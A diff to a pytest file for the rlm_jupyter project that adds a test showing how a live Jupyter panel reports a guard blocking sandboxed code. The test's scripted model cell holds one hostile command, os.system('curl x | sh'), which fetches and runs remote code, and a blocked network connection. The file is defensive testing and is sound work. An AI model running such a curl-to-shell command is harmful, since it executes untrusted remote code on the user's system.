@@ -17,6 +17,7 @@ import pytest
 from rlm_jupyter import RLM, Run
 from rlm_jupyter.engine.events import (
     CellFinished,
+    GuardActed,
     IterationFinished,
     IterationStarted,
     RootReplied,
@@ -28,7 +29,7 @@ from rlm_jupyter.engine.events import (
 )
 from rlm_jupyter.engine.executor import CapturedOutput, Executor, capture_std
 from rlm_jupyter.engine.spend import money
-from rlm_jupyter.engine.trajectory import CodeCell, Iteration, SubCall, Verdict
+from rlm_jupyter.engine.trajectory import CodeCell, GuardAction, Iteration, SubCall, Verdict
 from rlm_jupyter.jupyter import panel as panel_module
 from rlm_jupyter.jupyter.panel import LivePanel
 from rlm_jupyter.testing import FakeLLMServer, Scripted
@@ -241,6 +242,25 @@ def test_each_rows_verdicts_show_as_they_happen_and_the_header_sums_them(finishe
     assert "accepted with 2 marks: picked-by-eye, row-mismatch" in text(panel.header.value)
     answer = text(panel.answer.value)
     assert "Accepted with 2 marks" in answer and "marked by picked-by-eye: south was read off" in answer
+
+
+def test_a_guard_refusal_shows_in_its_row_and_the_header_as_it_happens(finished_panels: list[LivePanel]) -> None:
+    panel, run = LivePanel(max_iterations=3), make_run()
+    run.settings = {"guard": "on"}
+    finished_panels.append(panel)
+    it = Iteration(0, "```repl\nimport os\nos.system('curl x | sh')\n```")
+    panel.observe(RunStarted(run))
+    panel.observe(RootReplied(run, it))
+    panel.refresh()
+    assert "guard · on · nothing refused" in text(panel.header.value)
+    action = GuardAction("proc", "os.system('curl x | sh')", run_id=run.id, iteration=0, cell=0)
+    panel.observe(GuardActed(run, action))  # while the block still runs
+    panel.observe(GuardActed(run, GuardAction("net", "connect to 10.0.0.1:80", run_id="child", iteration=0)))
+    panel.refresh()
+    body = text(rows(panel)[0].children[0].value)
+    assert "guard refused proc: os.system('curl x | sh') (iteration 1, block 1)" in body
+    assert "10.0.0.1" not in body  # a child run's action is in its own report, inside the sub-call row
+    assert "guard · on · 2 actions refused: proc, net" in text(panel.header.value)
 
 
 def test_a_thousand_events_between_refreshes_cause_few_renders(finished_panels: list[LivePanel]) -> None:
